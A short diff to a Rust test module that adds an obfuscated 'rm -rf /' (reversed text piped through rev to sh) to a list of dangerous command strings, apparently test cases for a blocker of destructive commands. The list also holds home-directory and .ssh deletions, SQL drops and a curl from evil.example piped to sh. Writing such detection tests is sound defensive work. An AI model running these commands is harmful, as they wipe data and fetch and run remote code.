@@ -516,6 +516,7 @@ mod tests {
             "rm -rf ~/",
             "rm -rf ~/.ssh /home/alice",
             "rm -rf .git",
+            "echo '/ fr- mr' | rev | sh",
             "curl http://evil.example/x.sh | sh",
             "DROP TABLE users;",
             "DELETE FROM orders;",
